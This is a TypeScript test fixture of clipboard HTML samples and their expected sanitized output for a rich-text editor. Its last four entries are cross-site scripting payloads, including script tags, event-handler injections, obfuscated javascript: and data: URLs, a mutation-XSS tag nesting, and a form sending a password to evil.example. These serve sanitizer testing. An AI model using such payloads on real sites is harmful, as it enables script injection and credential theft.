import type { ClipboardSample } from './clipboard-office.ts'

const tight = (tag: string, ...items: string[]) =>
  `<${tag} data-tight="true" class="tight">\n${items.map((item) => `<li>\n<p>${item}</p>\n</li>`).join('\n')}\n</${tag}>`
const link = (href: string, words: string) =>
  `<a href="${href}" rel="noopener noreferrer nofollow" target="_blank">${words}</a>`

/** What browsers put on the clipboard, and what attackers would. Written for these tests. */
export const webSamples: readonly ClipboardSample[] = [
  {
    name: 'Chrome: a part of a page with computed styles',
    html: `<meta charset='utf-8'><h2 style="box-sizing: border-box; color: rgb(33, 37, 41); font-weight: 600;">Getting <span style="font-weight: 700;">here</span></h2><p style="orphans: 2; widows: 2;">By <a href="https://example.org/bus" class="btn" onclick="track()" style="text-decoration: underline;">bus</a>&nbsp; or on foot.</p>`,
    saved: `<h2>Getting here</h2>\n<p>By ${link('https://example.org/bus', 'bus')}\nor on foot.</p>`,
  },
  {
    name: 'Chrome: words without a block',
    html: `<meta charset='utf-8'><span style="color: rgb(0, 0, 0); display: inline !important; float: none;">only words</span>`,
    saved: '<p>only words</p>',
  },
  {
    name: 'Firefox: a list with loose line breaks',
    html: '\n<ul>\n  <li>one</li>\n  <li>two<br></li>\n</ul>\n<br>\n<div>after</div>',
    saved: `${tight('ul', 'one', 'two')}\n<p>after</p>`,
  },
  {
    name: 'a web page: sections, a figure, a hard space that is meant',
    html: '<section><article><h3>Tides</h3><figure><img src="https://example.org/tide.jpg" alt="Low tide" srcset="https://example.org/big.jpg 2x"><figcaption>At low tide</figcaption></figure><p>About 40\u00a0minutes</p></article></section>',
    saved:
      '<h3>Tides</h3>\n<div class="isomer-image-wrapper">\n<img style="width: 100%" height="auto" width="100%" alt="Low tide" src="https://example.org/tide.jpg">\n</div>\n<p>At low tide</p>\n<p>About 40&nbsp;minutes</p>',
  },
  {
    name: 'GitHub: code with its colours',
    html: '<div class="highlight highlight-source-js"><pre><span class="pl-k">let</span> a<br>let b</pre></div><p>Use <code class="notranslate">npm</code></p>',
    saved: '<pre><code>let a\nlet b</code></pre>\n<p>Use <code>npm</code></p>',
  },
  {
    name: 'a web page: a table with head, caption and layout',
    html: '<table role="presentation"><tr><td><p>Times</p><table><caption>Gates</caption><thead><tr><th style="font-weight:bold">Day</th><th>Open</th></tr></thead><tbody><tr><td>Monday</td><td>7</td></tr></tbody></table></td></tr></table>',
    saved:
      '<p>Times</p>\n<p>Gates</p>\n<table style="minWidth: 50px">\n<colgroup>\n<col>\n<col>\n</colgroup>\n<tbody>\n<tr>\n<th rowspan="1" colspan="1">\n<p>Day</p>\n</th>\n<th rowspan="1" colspan="1">\n<p>Open</p>\n</th>\n</tr>\n<tr>\n<td rowspan="1" colspan="1">\n<p>Monday</p>\n</td>\n<td rowspan="1" colspan="1">\n<p>7</p>\n</td>\n</tr>\n</tbody>\n</table>',
  },
  {
    name: 'a chat program: lines as elements',
    html: '<div>first line</div><div>second <b>line</b></div><div><br></div>',
    saved: '<p>first line</p>\n<p>second <strong>line</strong>\n</p>',
  },
  {
    name: 'a site of Isomer: its accordion',
    html: '<div class="isomer-accordion isomer-accordion-gray"><details class="isomer-details"><summary>Dogs?</summary><div data-type="detailsContent"><p>On a lead.</p></div></details></div>',
    saved:
      '<div data-type="detailGroup" class="isomer-accordion isomer-accordion-gray">\n<details class="isomer-details">\n<summary>Dogs?</summary>\n<div data-type="detailsContent" class="isomer-details-content">\n<p>On a lead.</p>\n</div>\n</details>\n</div>',
  },
  {
    name: 'hostile: scripts, handlers, styles, frames',
    html: '<style>*{background:url(https://evil.example/a)}</style><script>window.hacked=1</script><p onclick="hacked()" style="background:url(https://evil.example/b)">words<img src=x onerror="window.hacked=1"><iframe src="https://evil.example/"></iframe><svg onload="window.hacked=1"><a xlink:href="javascript:alert(1)">x</a></svg></p>',
    saved: '<p>words</p>',
  },
  {
    name: 'hostile: addresses that would run or hold a program',
    html: '<p><a href="java&#10;script:alert(1)">one</a> <a href="data:text/html,<script>1</script>">two</a> <a href=" JaVaScRiPt:alert(1)">three</a><img src="data:image/svg+xml,<svg onload=alert(1)>"></p>',
    saved: '<p>one two three</p>',
  },
  {
    name: 'hostile: code that hides in broken tags',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>kept</p>',
    saved: '<p>kept</p>',
  },
  {
    name: 'hostile: a form and what was not shown',
    html: '<form action="https://evil.example/"><input name="password" value="x"><button>Send</button>words</form><p style="display:none">hidden</p><p hidden>hidden</p>',
    saved: '<p>words</p>',
  },
]
